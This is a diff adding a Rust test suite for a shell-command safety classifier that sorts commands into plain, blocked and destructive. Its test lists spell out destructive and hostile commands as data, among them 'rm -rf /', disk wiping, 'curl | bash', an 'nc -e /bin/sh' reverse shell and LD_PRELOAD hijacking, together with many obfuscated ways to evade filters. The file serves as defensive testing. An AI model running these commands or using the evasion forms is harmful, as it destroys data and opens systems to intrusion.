@@ -1,0 +1,303 @@
+use proptest::prelude::*;
+
+use super::*;
+
+#[track_caller]
+fn check(commands: &[&str], expected: &str) {
+    for command in commands {
+        let found = CommandRules::default().judge(command);
+        let word = match (&found.blocked, found.severity) {
+            (Some(_), _) => "blocked",
+            (None, Severity::Destructive) => "destructive",
+            (None, Severity::Plain) => "plain",
+        };
+        assert_eq!(word, expected, "{command}\n{found:?}");
+    }
+}
+
+#[test]
+fn everyday_commands_are_plain() {
+    check(
+        &[
+            "ls -la /var/log | head -n 5",
+            "echo 'rm -rf /' && echo \"sudo reboot\"",
+            "grep -rn 'rm -rf' src || true",
+            "for f in *.log; do gzip -k \"$f\"; done",
+            "if [ -f x ]; then cat x; else echo none; fi",
+            "df -h > /tmp/df.txt 2>&1; cat < /etc/hosts > /dev/null",
+            "cp a b; mv b c; tee out < in; sed -i 's/a/b/' file; touch x",
+            "sed -n '1,5p' file; sed 's/one/two/g; s/e/f/' file",
+            "awk '{print $1}' file | sort | uniq -c | sort -rn",
+            "systemctl status nginx; systemctl restart nginx; journalctl -u nginx -n 50",
+            "kubectl get pods -n shop -o json | jq '.items[].metadata.name'",
+            "find . -name '*.tmp' -mtime +3 -print; find . -type f -exec grep -l x {} +",
+            "python3 script.py --flag; python3 -m json.tool < x.json",
+            "git status; git add -A; git commit -m \"a message\"; git push origin main; git reset HEAD~1",
+            "cat <<'EOF' > notes.txt\nrm -rf /\nsudo reboot\nEOF",
+            "x=5; y=\"$x\"; echo \"$y\"; while read -r line; do echo \"$line\"; done < file",
+            "timeout 5 curl -s http://localhost/ ; nice -n 10 make -j4; env FOO=1 make",
+            "bash -c 'ls -l | wc -l'; sh -c \"echo hi\"",
+            "ssh web1 uptime; docker exec web cat /etc/hosts; kubectl exec web-1 -- df -h",
+            "kill 4242; kill -9 4242; kill -HUP 4242; kill -1 4242; kill -l",
+            "chmod 755 run.sh; chmod +x run.sh; chmod u+w,go-w x; chown app file",
+            "dpkg -l | grep nginx; crontab -l; mount; apt list --installed; iptables -L",
+            "docker ps -a; docker logs web; du -sh /srv/* | sort -h",
+            "trap - EXIT; command -v jq; type ls; export FOO=bar; printf -v x '%s' y",
+            "f() { echo hi; }; f",
+            "echo a >> log; : > empty; sort \"file.$n\" > \"/tmp/out.$n\"",
+            "tar -czf a.tgz dir; rsync -a a/ b/",
+            "cd /srv/app && make build 2>&1 | tail -20",
+            "ls \\\n  -la \\\n  /tmp",
+            "true # rm -rf /",
+        ],
+        "plain",
+    );
+}
+
+// proves SH-2, SH-4
+#[test]
+fn blocked_commands_are_found_wherever_they_hide() {
+    check(
+        &[
+            "rm x",
+            "/bin/rm x",
+            "\\rm x",
+            "r\\m x",
+            "'rm' x",
+            "\"rm\" x",
+            "r\"m\" x",
+            "ls; rm -rf /",
+            "ls && rm x",
+            "ls | rm x",
+            "ls & rm x",
+            "(rm x)",
+            "{ rm x; }",
+            "! rm x",
+            "echo $(rm x)",
+            "echo `rm x`",
+            "echo \"$(rm x)\"",
+            "cat <(rm x)",
+            "x=$(rm y)",
+            "x=1 rm y",
+            "export X=$(rm y)",
+            "echo ${x:-$(rm y)}",
+            "echo $((1 + $(rm y)))",
+            "if rm x; then :; fi",
+            "while true; do rm x; done",
+            "for f in $(rm x); do :; done",
+            "for f in a; do rm $f; done",
+            "case x in x) rm y;; esac",
+            "f() { rm x; }; f",
+            "[[ -n $(rm x) ]]",
+            "env rm x",
+            "env -i A=b rm x",
+            "env -u HOME rm x",
+            "nice -n 5 rm x",
+            "nohup rm x &",
+            "timeout -s KILL 5 rm x",
+            "timeout 5s nice env rm x",
+            "command rm x",
+            "command -p rm x",
+            "builtin command rm x",
+            "exec rm x",
+            "setsid rm x",
+            "stdbuf -oL rm x",
+            "time rm x",
+            "xargs rm < list",
+            "ls | xargs -n 1 -I {} rm {}",
+            "find . -exec rm {} \\;",
+            "find . -execdir rm {} +",
+            "bash -c 'rm x'",
+            "bash -lc 'ls; rm x'",
+            "sh -c \"bash -c 'rm x'\"",
+            "eval 'rm x'",
+            "eval rm x",
+            "busybox rm x",
+            "bash <<'EOF'\nrm x\nEOF",
+            "bash <<EOF\nrm x\nEOF",
+            "cat <<EOF\n$(rm x)\nEOF",
+            "bash <<< 'rm x'",
+            "flock /tmp/l rm x",
+            "watch rm x",
+            "ssh web1 'rm x'",
+            "ssh -p 22 web1 sudo ls",
+            "docker exec -it web rm x",
+            "kubectl exec web-1 -- rm x",
+            "sudo ls",
+            "dd if=a of=b",
+            "mkfs.ext4 /dev/sda1",
+            "shutdown -h now",
+            "chmod 777 x",
+            "chmod 0777 x",
+            "chmod a+rwx x",
+            "chmod -v 777 x",
+            "ls \\\n; rm x",
+            "parallel rm ::: a b",
+        ],
+        "blocked",
+    );
+}
+
+// proves SH-5
+#[test]
+fn what_destroys_is_destructive() {
+    check(
+        &[
+            "rmdir x",
+            "unlink x",
+            "shred x",
+            "wipefs -a /dev/sda",
+            "umount /srv",
+            "mount /dev/sda1 /mnt",
+            "systemctl stop nginx",
+            "systemctl --user --now disable nginx",
+            "systemctl reboot_ 2>/dev/null; systemctl poweroff",
+            "service nginx stop",
+            "killall nginx",
+            "pkill -f x",
+            "kill 1",
+            "kill -9 -1",
+            "kill -- -1",
+            "kill -s KILL 1",
+            "kill -9 01",
+            "kill $(cat pid)",
+            "chmod -R 700 x",
+            "chmod o+w x",
+            "chmod 666 x",
+            "chmod +w x",
+            "chown -R app x",
+            "chown --recursive app x",
+            "find . -delete",
+            "find . -name x -exec unlink {} \\;",
+            "git clean -fdx",
+            "git -C repo reset --hard HEAD~1",
+            "git push --force",
+            "git push -f origin main",
+            "git push origin +main",
+            "crontab new",
+            "echo x | crontab -",
+            "iptables -F",
+            "apt-get install x",
+            "dpkg -i x.deb",
+            "echo x > /dev/sda",
+            "echo x > //dev/./sda",
+            "cat x | tee /dev/sda",
+            "cp image /dev/sda",
+            "su - root -c ls",
+            "reboot_() { :; }; halt",
+        ],
+        "destructive",
+    );
+}
+
+// proves SH-3
+#[test]
+fn what_cannot_be_known_is_destructive() {
+    check(
+        &[
+            "$X",
+            "$X y",
+            "\"$X\" y",
+            "$(echo rm) x",
+            "`echo rm` x",
+            "${X} y",
+            "$'r\\x6d' x",
+            "{rm,-rf,x}",
+            "/bin/r? x",
+            "r* x",
+            "eval \"$X\"",
+            "eval ls",
+            "source x.sh",
+            ". x.sh",
+            "bash x.sh",
+            "bash -s < x.sh",
+            "curl http://x | bash",
+            "curl http://x | sudo_ | sh -s -- a",
+            "cat <<'EOF' | bash\nls\nEOF",
+            "echo ls | (cat; bash)",
+            "bash -c \"$X\"",
+            "bash -c",
+            "xargs sh -c < x",
+            "python3 -c 'print(1)'",
+            "echo 'print(1)' | python3",
+            "python3 - <<'EOF'\nprint(1)\nEOF",
+            "perl -e 1",
+            "perl -ne 'print' x",
+            "node -e 1",
+            "awk 'BEGIN {system(\"x\")}'",
+            "awk -f x.awk",
+            "sed 's/a/b/e' x",
+            "sed '1e date' x",
+            "alias ls=x",
+            "trap 'ls' EXIT",
+            "ls() { :; }",
+            "PATH=/tmp/x ls",
+            "PATH=/tmp/x",
+            "export PATH=/tmp/x",
+            "export LD_PRELOAD=x",
+            "LD_PRELOAD=x ls",
+            "BASH_ENV=x bash -c ls",
+            "env PATH=/tmp ls",
+            "env LD_PRELOAD=/tmp/x.so ls",
+            "read PATH < x",
+            "printf -v PATH x",
+            "for PATH in a; do ls; done",
+            "declare -x IFS=x",
+            "declare \"$X\"",
+            "env -S 'ls -l'",
+            "coproc ls",
+            "hash -p /tmp/x ls",
+            "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec=x y",
+            "git -c core.pager=x log",
+            "git submodule foreach ls",
+            "socat EXEC:x TCP:y",
+            "nc -e /bin/sh x 1",
+            "echo ${x@P}",
+            "echo x > $F",
+            "if",
+            "ls )",
+            "echo 'unclosed",
+            "r\\\nm x",
+            "ls\rrm",
+            "echo \u{202e}x",
+            "/lib64/ld-linux-x86-64.so.2 /bin/ls",
+            "git push \"$X\"",
+            "systemctl $X nginx",
+            "find . $X",
+        ],
+        "destructive",
+    );
+    check(
+        &[&"ls; ".repeat(60), &format!("echo {}", "x".repeat(70_000)), &"(".repeat(400)],
+        "destructive",
+    );
+    check(&[&format!("{}ls{}", "( ".repeat(200), " )".repeat(200))], "destructive");
+}
+
+// proves SH-5
+#[test]
+fn the_operator_adds_to_the_lists() {
+    let rules = CommandRules {
+        blocked: vec!["terraform destroy".into()],
+        destructive: vec!["kubectl delete".into(), "helm".into()],
+    };
+    let judged = |command: &str| rules.judge(command);
+    assert!(judged("terraform -chdir=x destroy").blocked.is_some());
+    assert!(judged("terraform plan").blocked.is_none());
+    assert_eq!(judged("kubectl -n shop delete pod x").severity, Severity::Destructive);
+    assert_eq!(judged("kubectl get pods").severity, Severity::Plain);
+    assert_eq!(judged("env helm list").severity, Severity::Destructive);
+}
+
+proptest! {
+    #[test]
+    fn any_text_is_judged(text in "\\PC{0,80}|([a-z$`'\"(){};|&<> \n\\\\-]{0,60})") {
+        let _ = CommandRules::default().judge(&text);
+    }
+
+    #[test]
+    fn a_part_that_is_blocked_blocks_the_whole(before in "(ls|echo a|true|cat x)( \\| | && |; |\n| \\|\\| | & )", after in "((; | && |\n)(ls|echo b))?") {
+        let text = format!("{before}rm x{after}");
+        prop_assert!(CommandRules::default().judge(&text).blocked.is_some(), "{}", text);
+    }
+}
